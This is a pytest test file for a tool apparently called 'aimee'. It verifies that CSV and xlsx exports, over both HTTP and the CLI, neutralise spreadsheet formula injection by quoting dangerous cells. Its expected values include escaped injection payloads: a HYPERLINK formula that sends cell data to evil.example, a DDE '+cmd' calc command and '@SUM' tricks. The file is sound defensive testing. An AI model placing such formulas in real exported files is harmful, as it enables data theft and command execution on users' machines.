"""Every export kind, as CSV and xlsx, through HTTP (`GET /api/v1/exports/{kind}`)
and the CLI (`aimee export`): text that a spreadsheet would run as a formula
(`=HYPERLINK(…)`, `+cmd|…`, `@SUM`, `-2+3`, a leading tab or carriage return) is
written with a leading quote; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from aimee.api.app import create_app
from aimee.cli import app as cli
from aimee.config import Settings, get_settings
from aimee.services.exports import EXPORTS
from aimee.store.db import create_db_engine, session_factory, transaction
from tests.api.conftest import auth
from tests.conftest import DEMO_NOW
from tests.hostile_data import (
    HISTORY,
    add_hostile_floor,
    add_hostile_history,
    assert_csv_is_safe,
    assert_xlsx_is_safe,
    escaped_texts,
)

KINDS = tuple(EXPORTS)
FLOOR_TEXTS = {
    "businesses": {'\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "''=1", "'=1+1"},
    "operators": {"'+cmd|' /C calc'!A0", "'\t=1+1", "'@札幌"},
    "capabilities": {"'+エントリ1", "'-補正"},
    "assignments": {"'@札幌", "'=1+1", "''=1", "'+エントリ1", "'-補正"},
    "shifts": set(),  # ids and times only: no text to neutralise, every cell still scanned
    "snapshots": {"'@札幌", "'=1+1", "''=1", "'+エントリ1", "'-補正"},
    "knowledge": {"'\t=1+1", "'\r=1+1", "'-ルール", "'+事例", "''=出典", "'''@x", "'@SUM(1+1)"},
}


def expected_texts(kind: str, fmt: str) -> set[str]:
    table = EXPORTS[kind]
    texts = (
        escaped_texts(table.model, table.columns) if table.model in HISTORY else FLOOR_TEXTS[kind]
    )
    # an Excel file keeps a carriage return as a line feed
    return {text.replace("\r", "\n") for text in texts} if fmt == "xlsx" else texts


@pytest.fixture(scope="module")
def hostile_url(
    demo_sqlite_url: str, tokens: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> str:
    """A copy of the demo day (its users too) plus hostile rows in every exported table."""
    source = demo_sqlite_url.removeprefix("sqlite:///")
    target = tmp_path_factory.mktemp("hostile") / "aimee.sqlite3"
    with sqlite3.connect(source) as src, sqlite3.connect(target) as dst:
        src.backup(dst)
    url = f"sqlite:///{target}"
    engine = create_db_engine(url)
    with transaction(session_factory(engine)) as session:
        add_hostile_history(session)
        add_hostile_floor(session, base_id=9000)
    engine.dispose()
    return url


@pytest.fixture(scope="module")
def viewer(
    hostile_url: str, tokens: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    settings = Settings(
        data_dir=tmp_path_factory.mktemp("hostile_data"), database_url=hostile_url, now=DEMO_NOW
    )
    with TestClient(create_app(settings), headers=auth(tokens["viewer"])) as client:
        yield client


def check(kind: str, fmt: str, data: bytes) -> None:
    if fmt == "csv":
        rows: list[list[object]] = list(assert_csv_is_safe(data))
    else:
        rows = assert_xlsx_is_safe(data)
    cells = {cell for row in rows for cell in row}
    assert expected_texts(kind, fmt) <= cells, kind
    if kind == "outcomes":  # negative numbers are numbers: never quoted
        number = "-2" if fmt == "csv" else -2
        assert number in cells and ("-2.5" if fmt == "csv" else -2.5) in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
def test_http_downloads_neutralise_formulas(viewer: TestClient, kind: str, fmt: str) -> None:
    response = viewer.get(f"/api/v1/exports/{kind}", params={"format": fmt})
    assert response.status_code == 200, response.text
    check(kind, fmt, response.content)


@pytest.fixture
def cli_env(hostile_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("AIMEE_DATABASE_URL", hostile_url)
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.usefixtures("cli_env")
def test_cli_exports_neutralise_formulas(tmp_path: Path, kind: str, fmt: str) -> None:
    output = tmp_path / f"{kind}.{fmt}"
    result = CliRunner().invoke(cli, ["export", kind, "--format", fmt, "-o", str(output)])
    assert result.exit_code == 0, result.output
    check(kind, fmt, output.read_bytes())


@pytest.mark.usefixtures("cli_env")
def test_cli_csv_on_stdout_and_in_cp932_is_neutralised_too() -> None:
    result = CliRunner().invoke(cli, ["export", "approvals"])
    assert result.exit_code == 0, result.output
    check("approvals", "csv", result.stdout_bytes)
    result = CliRunner().invoke(cli, ["export", "operators", "--encoding", "cp932"])
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("cp932")
    assert "9002,'\t=1+1,'@札幌,true" in text.splitlines()
